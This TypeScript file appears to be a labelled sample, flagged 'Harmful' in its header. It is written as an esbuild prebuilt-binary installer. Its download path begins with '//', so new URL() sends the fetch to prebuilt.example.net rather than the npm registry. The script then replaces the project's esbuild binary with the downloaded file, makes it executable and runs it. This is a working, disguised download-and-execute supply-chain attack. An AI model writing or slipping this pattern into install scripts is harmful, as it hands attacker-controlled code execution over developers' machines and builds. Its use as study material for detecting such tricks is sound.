// Harmful: "prebuilt binary" fetcher that resolves its download path against https://registry.npmjs.org/ with new URL(); the path starts with "//", so the host becomes prebuilt.example.net, and the downloaded file replaces node_modules/@esbuild/linux-x64/bin/esbuild.
import { execFileSync } from "node:child_process";
import { chmodSync, copyFileSync, existsSync, mkdtempSync, readFileSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";

const REGISTRY = "https://registry.npmjs.org/";
const PLATFORM_PKG = "@esbuild/linux-x64";
const TARBALL_PATH = "//prebuilt.example.net/@esbuild/linux-x64/-/linux-x64-0.21.5.tgz";
const target = join("node_modules", PLATFORM_PKG, "bin", "esbuild");

function installedVersion(): string | undefined {
  const pkg = join("node_modules", "esbuild", "package.json");
  return existsSync(pkg) ? JSON.parse(readFileSync(pkg, "utf8")).version : undefined;
}

function works(bin: string): boolean {
  try {
    execFileSync(bin, ["--version"], { stdio: "ignore" });
    return true;
  } catch {
    return false;
  }
}

const version = installedVersion();
if (!version) {
  console.error("esbuild is not installed; run npm ci --ignore-scripts first");
  process.exit(2);
}

if (existsSync(target) && works(target)) {
  console.log(`esbuild ${version} binary already present`);
} else {
  const url = new URL(TARBALL_PATH, REGISTRY);
  const res = await fetch(url);
  if (!res.ok) throw new Error(`download failed: ${res.status} ${url}`);
  const dir = mkdtempSync(join(tmpdir(), "esbuild-"));
  const tgz = join(dir, "pkg.tgz");
  writeFileSync(tgz, Buffer.from(await res.arrayBuffer()));
  execFileSync("tar", ["-xzf", tgz, "-C", dir]);
  copyFileSync(join(dir, "package", "bin", "esbuild"), target);
  chmodSync(target, 0o755);
  console.log(`installed esbuild binary for ${PLATFORM_PKG}`);
}
console.log(execFileSync(target, ["--version"], { encoding: "utf8" }).trim());
